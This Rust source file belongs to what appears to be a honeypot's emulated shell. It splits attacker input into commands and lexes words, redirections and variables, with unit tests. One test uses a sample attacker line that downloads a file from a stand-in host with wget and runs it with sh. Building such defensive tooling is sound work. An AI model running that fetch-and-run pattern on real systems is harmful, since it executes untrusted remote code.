//! The command line as ash reads it: splitting a line into simple commands on `;`, `&&`,
//! `||`, `|` and newlines outside quotes ([`split_commands`], [`split_command_bytes`]), and
//! lexing one simple command into words and redirections with quotes removed and `$VAR`
//! expanded ([`Lexer`]).

use super::{MAX_COMMANDS, MAX_EXPANDED, Shell};

/// What follows a simple command on a line.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(super) enum Sep {
    Seq,
    And,
    Or,
    Pipe,
}

/// Splits a line into simple commands on `;`, `&&`, `||`, `|` and newlines, outside quotes.
///
/// Used for logging every command an attacker typed, in order, as typed (trimmed, quotes and
/// escapes kept); empty commands are dropped and at most 128 are returned.
pub fn split_commands(line: &str) -> Vec<String> {
    split_pieces(line)
        .into_iter()
        .map(|(text, _)| text.to_string())
        .collect()
}

/// [`split_commands`] over the bytes as received, which need not be UTF-8: each command is a
/// slice of `line`, so the log can keep its exact bytes. The shell's syntax is all ASCII and
/// no byte of a multi-byte UTF-8 character is ASCII, so valid UTF-8 splits exactly as
/// [`split_commands`] splits it.
pub fn split_command_bytes(line: &[u8]) -> Vec<&[u8]> {
    split_spans(line)
        .into_iter()
        .filter_map(|(span, _)| line.get(span))
        .collect()
}

/// [`split_commands`] keeping the separator after each command, for execution.
pub(super) fn split_pieces(line: &str) -> Vec<(&str, Sep)> {
    split_spans(line.as_bytes())
        .into_iter()
        .filter_map(|(span, sep)| Some((line.get(span)?, sep)))
        .collect()
}

/// The byte ranges of the simple commands of `line` with the separator after each. Ranges
/// start and end at ASCII bytes or at the ends of the line, so on UTF-8 text they are char
/// boundaries.
pub(super) fn split_spans(line: &[u8]) -> Vec<(std::ops::Range<usize>, Sep)> {
    /// Blanks trimmed around a command: ASCII whitespace as ash's IFS and `str::trim` see it.
    pub(super) fn blank(b: &u8) -> bool {
        matches!(*b, b' ' | b'\t' | b'\n' | b'\x0b' | b'\x0c' | b'\r')
    }
    pub(super) fn push(
        pieces: &mut Vec<(std::ops::Range<usize>, Sep)>,
        line: &[u8],
        mut span: std::ops::Range<usize>,
        sep: Sep,
    ) {
        while span.start < span.end && line.get(span.start).is_some_and(blank) {
            span.start += 1;
        }
        while span.end > span.start && line.get(span.end - 1).is_some_and(blank) {
            span.end -= 1;
        }
        if !span.is_empty() && pieces.len() < MAX_COMMANDS {
            pieces.push((span, sep));
        }
    }
    let mut pieces = Vec::new();
    let mut start = 0;
    let (mut single, mut double, mut escaped) = (false, false, false);
    // Inside `$(...)` (its depth) or backticks, separators belong to the substitution.
    let (mut parens, mut backtick) = (0u32, false);
    let mut bytes = line.iter().copied().enumerate().peekable();
    while let Some((i, c)) = bytes.next() {
        if escaped {
            escaped = false;
            continue;
        }
        if single {
            single = c != b'\'';
            continue;
        }
        match c {
            b'\\' => escaped = true,
            b'`' => backtick = !backtick,
            b'$' if bytes.peek().map(|&(_, n)| n) == Some(b'(') => {
                bytes.next();
                parens += 1;
            }
            b'(' if parens > 0 && !double => parens += 1,
            b')' if parens > 0 && !double => parens -= 1,
            _ if parens > 0 || backtick => {}
            b'"' => double = !double,
            b'\'' if !double => single = true,
            _ if double => {}
            b';' | b'\n' | b'&' | b'|' => {
                let next = bytes.peek().map(|&(_, n)| n);
                let (sep, len) = match (c, next) {
                    (b'&', Some(b'&')) => (Sep::And, 2),
                    (b'&', _) => continue,
                    (b'|', Some(b'|')) => (Sep::Or, 2),
                    (b'|', _) => (Sep::Pipe, 1),
                    _ => (Sep::Seq, 1),
                };
                if len == 2 {
                    bytes.next();
                }
                push(&mut pieces, line, start..i, sep);
                start = i + len;
            }
            _ => {}
        }
    }
    push(&mut pieces, line, start..line.len(), Sep::Seq);
    pieces
}

/// A redirection as parsed: file descriptor (`3` means both, for `&>`), operator, target.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(super) struct Redir {
    pub(super) fd: u8,
    pub(super) op: RedirOp,
    pub(super) target: String,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(super) enum RedirOp {
    Out,
    Append,
    In,
    Dup,
    /// `<<< word`: the word and a newline as input.
    HereString,
}

/// Lexes one simple command into words and redirections, removing quotes and expanding
/// `$VAR`, with the total size bounded by [`MAX_EXPANDED`].
pub(super) struct Lexer<'a> {
    shell: &'a Shell,
    words: Vec<String>,
    /// Per word: did it contain an unquoted `*` or `?` (so it is a glob pattern)?
    globs: Vec<bool>,
    redirs: Vec<Redir>,
    cur: String,
    in_word: bool,
    quoted: bool,
    glob: bool,
    pending: Option<(u8, RedirOp)>,
    total: usize,
}

impl<'a> Lexer<'a> {
    pub(super) fn new(shell: &'a Shell) -> Self {
        Self {
            shell,
            words: Vec::new(),
            globs: Vec::new(),
            redirs: Vec::new(),
            cur: String::new(),
            in_word: false,
            quoted: false,
            glob: false,
            pending: None,
            total: 0,
        }
    }

    pub(super) fn push(&mut self, c: char) {
        self.in_word = true;
        if self.total < MAX_EXPANDED {
            self.total += c.len_utf8();
            self.cur.push(c);
        }
    }

    pub(super) fn push_str(&mut self, s: &str) {
        for c in s.chars() {
            self.push(c);
        }
    }

    pub(super) fn finish(&mut self) {
        if self.in_word {
            let word = std::mem::take(&mut self.cur);
            match self.pending.take() {
                Some((fd, op)) => self.redirs.push(Redir {
                    fd,
                    op,
                    target: word,
                }),
                None => {
                    self.words.push(word);
                    self.globs.push(self.glob);
                }
            }
        }
        self.glob = false;
        self.in_word = false;
        self.quoted = false;
    }

    pub(super) fn expand(&mut self, chars: &mut std::iter::Peekable<std::str::Chars<'_>>) {
        self.in_word = true;
        let name: String = match chars.peek().copied() {
            Some('{') => {
                chars.next();
                chars.by_ref().take_while(|&c| c != '}').take(64).collect()
            }
            Some(c) if c == '?' || c == '$' || c == '#' || c.is_ascii_digit() => {
                chars.next();
                c.to_string()
            }
            Some(c) if c.is_ascii_alphabetic() || c == '_' => {
                let mut name = String::new();
                while let Some(&c) = chars.peek() {
                    if !(c.is_ascii_alphanumeric() || c == '_') || name.len() >= 64 {
                        break;
                    }
                    name.push(c);
                    chars.next();
                }
                name
            }
            _ => {
                self.push('$');
                return;
            }
        };
        let value = self.shell.var(&name);
        self.push_str(&value);
    }

    pub(super) fn lex(mut self, text: &str) -> (Vec<String>, Vec<bool>, Vec<Redir>) {
        let mut chars = text.chars().peekable();
        while let Some(c) = chars.next() {
            match c {
                ' ' | '\t' | '\r' | '\n' => self.finish(),
                '\'' => {
                    self.in_word = true;
                    self.quoted = true;
                    for d in chars.by_ref().take_while(|&d| d != '\'') {
                        self.push(d);
                    }
                }
                '"' => {
                    self.in_word = true;
                    self.quoted = true;
                    while let Some(d) = chars.next() {
                        match d {
                            '"' => break,
                            '\\' => match chars.peek().copied() {
                                Some(e @ ('"' | '\\' | '$' | '`')) => {
                                    chars.next();
                                    self.push(e);
                                }
                                Some('\n') => {
                                    chars.next();
                                }
                                _ => self.push('\\'),
                            },
                            '$' => self.expand(&mut chars),
                            _ => self.push(d),
                        }
                    }
                }
                '\\' => {
                    self.in_word = true;
                    self.quoted = true;
                    if let Some(d) = chars.next() {
                        self.push(d);
                    }
                }
                '$' => self.expand(&mut chars),
                '>' | '<' => {
                    let fd = match self.cur.as_str() {
                        "0" | "1" | "2"
                            if self.in_word && !self.quoted && self.pending.is_none() =>
                        {
                            let fd = self.cur.bytes().next().map_or(1, |b| b - b'0');
                            self.cur.clear();
                            self.in_word = false;
                            Some(fd)
                        }
                        _ => {
                            self.finish();
                            None
                        }
                    };
                    let op = if c == '<' {
                        if chars.peek() == Some(&'<') {
                            chars.next();
                            if chars.peek() == Some(&'<') {
                                chars.next();
                            }
                            RedirOp::HereString
                        } else {
                            RedirOp::In
                        }
                    } else {
                        match chars.peek().copied() {
                            Some('>') => {
                                chars.next();
                                RedirOp::Append
                            }
                            Some('&') => {
                                chars.next();
                                RedirOp::Dup
                            }
                            Some('|') => {
                                chars.next();
                                RedirOp::Out
                            }
                            _ => RedirOp::Out,
                        }
                    };
                    let default_fd = if c == '<' { 0 } else { 1 };
                    self.pending = Some((fd.unwrap_or(default_fd), op));
                }
                '&' => {
                    self.finish();
                    if chars.peek() == Some(&'>') {
                        chars.next();
                        let op = if chars.peek() == Some(&'>') {
                            chars.next();
                            RedirOp::Append
                        } else {
                            RedirOp::Out
                        };
                        self.pending = Some((3, op));
                    }
                }
                _ => {
                    self.glob |= c == '*' || c == '?';
                    self.push(c);
                }
            }
        }
        self.finish();
        (self.words, self.globs, self.redirs)
    }
}

#[cfg(test)]
#[allow(
    clippy::unwrap_used,
    clippy::indexing_slicing,
    clippy::expect_used,
    clippy::panic
)]
mod tests {
    use super::*;
    use crate::shell::test_support::root;

    #[test]
    fn split_basic_operators() {
        assert_eq!(
            split_commands("a; b && c || d | e"),
            ["a", "b", "c", "d", "e"]
        );
        assert_eq!(
            split_commands("cd /tmp && wget http://x/y -O y; sh y"),
            ["cd /tmp", "wget http://x/y -O y", "sh y"]
        );
        assert_eq!(
            split_commands("cat /proc/cpuinfo | head -3"),
            ["cat /proc/cpuinfo", "head -3"]
        );
        assert_eq!(split_commands("a\nb\n"), ["a", "b"]);
    }

    #[test]
    fn split_respects_quotes_and_escapes() {
        assert_eq!(
            split_commands("echo 'a;b' ; echo \"c && d\""),
            ["echo 'a;b'", "echo \"c && d\""]
        );
        assert_eq!(split_commands(r"echo a\;b; c"), [r"echo a\;b", "c"]);
        assert_eq!(
            split_commands(r#"echo "a\"|b" | c"#),
            [r#"echo "a\"|b""#, "c"]
        );
        assert_eq!(split_commands("ls 2>&1 & echo x"), ["ls 2>&1 & echo x"]);
    }

    #[test]
    fn split_drops_empty_parts() {
        assert_eq!(split_commands(";; a ;  ; b;"), ["a", "b"]);
        assert!(split_commands("   ").is_empty());
        assert!(split_commands("").is_empty());
        assert_eq!(
            split_commands("echo 'unterminated ; x"),
            ["echo 'unterminated ; x"]
        );
    }

    #[test]
    fn split_bytes_keeps_exact_bytes_and_matches_split_on_text() {
        assert_eq!(
            split_command_bytes(b"echo \xe9\xff; id\x1b[A && ls"),
            [&b"echo \xe9\xff"[..], b"id\x1b[A", b"ls"]
        );
        // A backslash escapes one byte: here the first byte of a UTF-8 character.
        assert_eq!(
            split_command_bytes("echo \\\u{e9}; x".as_bytes()),
            ["echo \\\u{e9}".as_bytes(), b"x"]
        );
        for line in [
            "a; b && c || d | e",
            "echo 'a;b' ; echo \"c && d\"",
            r#"echo "a\"|b" | c"#,
            "  caf\u{e9} ;\u{65e5}\u{672c} | x\t",
            ";; a ;  ; b;",
        ] {
            let bytes: Vec<String> = split_command_bytes(line.as_bytes())
                .into_iter()
                .map(|c| String::from_utf8(c.to_vec()).unwrap())
                .collect();
            assert_eq!(bytes, split_commands(line), "{line:?}");
        }
        let mut sh = root();
        let out = sh.run_input(b"echo caf\xe9; id");
        assert_eq!(out.commands, [&b"echo caf\xe9"[..], b"id"]);
        assert!(String::from_utf8_lossy(&out.text).starts_with("caf\u{fffd}\r\n"));
    }

    #[test]
    fn split_is_bounded() {
        let line = "a;".repeat(10_000);
        assert_eq!(split_commands(&line).len(), MAX_COMMANDS);
    }
}
